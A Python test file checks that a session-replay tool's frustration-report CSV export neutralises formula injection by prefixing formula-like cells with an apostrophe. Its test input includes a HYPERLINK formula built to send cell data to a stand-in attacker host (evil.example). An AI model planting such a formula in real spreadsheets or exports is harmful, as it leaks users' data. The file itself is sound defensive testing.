"""The frustration report's CSV downloads open safely in a spreadsheet: text that visitors chose (element text, form
field names, page URLs) and that starts like a formula is written as text, with a leading `'`; numbers stay numbers."""

from __future__ import annotations

import base64
import csv
import io
from collections.abc import Iterator

import pytest
from starlette.testclient import TestClient

from replay.csv_cells import neutralise
from tests.gateway.test_ui_auth import TOKENS, WRITE_KEY, ui_client
from tests.replay.streams import E, Recording
from tests.support.sessions import fully_analysed
from tests.support.waiting import wait_until

ADMIN = {"Authorization": f"Bearer {TOKENS['admin']}"}
# A recording is whatever the client sends: its page address can be a formula as well as a URL.
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def hostile_session() -> Recording:
    """On a "page" whose address is a formula, a visitor rage-clicks a button, types into a form and leaves."""
    rec = Recording()
    ids = rec.page(0, FORMULA, E("button", "Buy", ref="buy", id="buy"),
                   E("form", E("input", ref="field", name="q", type="text"), E("button", "Send", type="submit")))
    for t in (1000, 1200, 1400):
        rec.click(t, ids["buy"])
    rec.type_text(3000, ids["field"], "hello")
    rec.wait(9000)
    return rec


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    with ui_client(tmp_path_factory.mktemp("report-csv"), analyze_after_idle_s=0.1) as test_client:
        auth = base64.b64encode(f"{WRITE_KEY}:".encode()).decode()
        response = test_client.post("/v1/replay/hostile-1", json=hostile_session().events,
                                    headers={"Authorization": f"Basic {auth}"})
        assert response.status_code == 200, response.text
        wait_until(lambda: all(fully_analysed(s) for s in test_client.get(
            "/admin/v1/replay/sessions", headers=ADMIN).json()["sessions"]), what="the session analysed")
        yield test_client


def table(client: TestClient, name: str) -> list[dict[str, str]]:
    response = client.get(f"/admin/v1/reports/frustration?format=csv&table={name}", headers=ADMIN)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.text)))


@pytest.mark.parametrize("name", ["elements", "forms"])
def test_a_page_address_that_reads_as_a_formula_is_exported_as_text(client: TestClient, name: str) -> None:
    [row] = client.get("/admin/v1/reports/frustration", headers=ADMIN).json()[name]
    assert row["page_url"].startswith("=HYPERLINK(")  # the JSON report keeps what was recorded (as URLs are kept)
    [exported] = table(client, name)
    assert exported["page_url"] == "'" + row["page_url"]
    assert exported["selector" if name == "elements" else "form"] == row["selector" if name == "elements" else "form"]
    assert exported["rage_clicks" if name == "elements" else "abandonments"] == "1"


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["plain", "a=b", "", -3, 2.5, None])
def test_other_cells_are_left_as_they_are(cell: object) -> None:
    assert neutralise(cell) == cell
